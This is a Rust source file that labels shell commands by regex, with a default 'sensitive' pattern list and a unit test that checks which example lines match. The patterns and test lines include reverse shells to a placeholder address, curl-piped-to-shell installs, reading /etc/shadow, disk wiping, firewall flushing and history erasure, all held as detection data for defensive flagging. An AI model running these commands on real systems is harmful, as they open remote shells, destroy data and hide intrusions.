//! Labels of commands: names for what their lines match. Patterns come from the configuration, and go through the
//! stream, so that a replay gives the same labels.
//!
//! The crate `regex` matches in time linear in the line, whatever the pattern; a pattern's compiled size is bounded
//! here. Lines are bytes, and so are the patterns: `\w` and `\b` are ASCII's.

use regex::bytes::{RegexSet, RegexSetBuilder};
use serde::{Deserialize, Serialize};

/// Compiled, for all patterns of one label: the defaults need a quarter of it.
const COMPILED_MAX: usize = 1 << 20;

/// A label and what a line must match to bear it: one of these.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Label {
    pub name: String,
    pub patterns: Vec<String>,
}

impl Label {
    pub fn compile(&self) -> Result<RegexSet, regex::Error> {
        RegexSetBuilder::new(&self.patterns).unicode(false).size_limit(COMPILED_MAX).build()
    }
}

/// What makes a command `sensitive` if the configuration does not say: it changes who may do what, destroys, opens,
/// hides, or runs what it has just fetched. A first line, not a verdict.
pub const SENSITIVE: &[&str] = &[
    // Another user's rights.
    r"(^|[;&|(`\s/])(sudo|doas|su|pkexec|runuser|setpriv)(\s|$)",
    // Users and their passwords.
    r"(^|[;&|(`\s/])(useradd|userdel|usermod|adduser|deluser|groupadd|groupdel|groupmod|gpasswd|newusers)(\s|$)",
    r"(^|[;&|(`\s/])(passwd|chpasswd|chage|visudo|vipw|vigr)(\s|$)",
    r"/etc/(passwd|shadow|gshadow|group|sudoers|pam\.d|security|nsswitch\.conf|ld\.so\.preload)\b",
    // Ways in.
    r"authorized_keys|\.ssh/(id_|config|environment|rc\b)|/etc/ssh/",
    r"/etc/(crontab|cron\.|systemd/system|rc\.local|profile)|(^|[;&|(`\s/])(crontab|at|batch)(\s|$)",
    r"/dev/(tcp|udp)/|(^|[;&|(`\s/])(nc|ncat|netcat|socat)\b.*(\s-\w*[ec]\b|exec:|system:)",
    // Fetched and run at once.
    r"(curl|wget)\b.*\|\s*(sudo\s+(-\S+\s+)*)?(\S*/)?((ba|da|z|k|a)?sh|python[\d.]*|perl|ruby|node|php)\b",
    r"((ba|da|z|k|a)?sh|source|eval|\.)\b.*(<\(|\$\(|`)\s*(curl|wget)\b",
    r"base64\s+(-\w*d|-D|--decode)\b.*\|\s*(\S*/)?((ba|da|z|k|a)?sh|python[\d.]*|perl)\b",
    // What does not come back.
    r"(^|[;&|(`\s/])rm\s+(\S+\s+)*(-\w*[rR]|--recursive)",
    r"(^|[;&|(`\s/])(mkfs(\.\w+)?|mkswap|fdisk|sfdisk|parted|wipefs|shred|blkdiscard|cryptsetup|lvremove|vgremove|pvremove)(\s|$)",
    r"(^|[;&|(`\s/])dd\s(.*\s)?of=|>\s*/dev/(sd|vd|xvd|nvme|mmcblk|dm-|mapper/)",
    r"(?i)\b(drop|truncate)\s+(table|database|schema|user|role)\b",
    r"\bgit\s+(\S+\s+)*push\s+(\S+\s+)*(--force\b|-f\b)|\bkubectl\s+(\S+\s+)*(delete|drain|exec)\b",
    r"\bdocker\s+(\S+\s+)*(system\s+prune|volume\s+(rm|prune))\b|\bdocker\s.*--privileged\b",
    // Rights of files.
    r"(^|[;&|(`\s/])chmod\s+(\S+\s+)*([ugoa]*\+\w*s|[2467][0-7]{3}\b|0?777\b)|(^|[;&|(`\s/])(setcap|chattr|setfacl)\s",
    // Protection and traces.
    r"(^|[;&|(`\s/])(iptables|ip6tables|iptables-restore|nft|ufw|firewall-cmd|ebtables|setenforce|aa-teardown|aa-complain)(\s|$)",
    r"\bsystemctl\s+(-\S+\s+)*(stop|disable|mask|kill|isolate|rescue|emergency|poweroff|reboot|halt)\b",
    r"(^|[;&|(`\s/])(service|rc-service)\s+\S+\s+stop\b|(^|[;&|(`\s/])(shutdown|reboot|poweroff|halt|kexec)(\s|$)",
    r"(^|[;&|(`\s/])history\s+-\w*[cdw]|\bHIST(FILE|SIZE|FILESIZE|CONTROL)\b|\.(bash|zsh)_history\b",
    r"/var/log/|/var/run/utmp|\bjournalctl\s.*--(vacuum|rotate|flush)|(^|[;&|(`\s/])(auditctl|augenrules)(\s|$)",
    r"(^|[;&|(`\s/])(insmod|modprobe|rmmod|depmod)(\s|$)|\bsysctl\s+(\S+\s+)*(-w|-p)|/proc/sys/kernel/",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_defaults_tell_sensitive_commands_from_others() {
        let patterns = SENSITIVE.iter().map(|pattern| (*pattern).to_owned()).collect();
        let set = Label { name: "sensitive".into(), patterns }.compile().unwrap();
        for line in [
            "sudo id",
            "cd /x && sudo -n id",
            "su - postgres",
            "/usr/sbin/useradd x",
            "passwd root",
            "usermod -aG docker x",
            "cat /etc/shadow",
            "echo key >> ~/.ssh/authorized_keys",
            "curl -s https://x.test/install | bash",
            "wget -qO- x|sudo -E /bin/sh -s",
            "bash <(curl -s x)",
            "sh -c \"$(curl -fsSL x)\"",
            "echo x | base64 -d | sh",
            "rm -rf /srv/x",
            "rm -v -r x",
            "mkfs.ext4 /dev/sdb1",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "iptables -F",
            "nft flush ruleset",
            "systemctl stop sshd",
            "systemctl --now disable auditd",
            "service ssh stop",
            "history -c",
            "unset HISTFILE",
            "chmod u+s /bin/x",
            "chmod 4755 x",
            "crontab -r",
            "mysql -e 'DROP TABLE users'",
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "nc -e /bin/sh 10.0.0.1 4242",
            "modprobe x",
            "kubectl -n x delete pod y",
        ] {
            assert!(set.is_match(line.as_bytes()), "{line}");
        }
        for line in [
            "ls -l /srv",
            "echo result",
            "cat /srv/issue",
            "rm x",
            "rm -f x",
            "uptime; df -h",
            "systemctl status sshd",
            "curl -s https://x.test/health",
            "git push origin main",
            "docker ps",
            "mkdir -p .kamal && echo x >> .kamal/audit.log",
            "tar c x | gzip > y",
            "add /usr/lib/sudoku",
            "chmod 644 x",
            "kubectl get pods",
            "echo 'the history of x'",
        ] {
            assert!(!set.is_match(line.as_bytes()), "{line}");
        }
    }
}
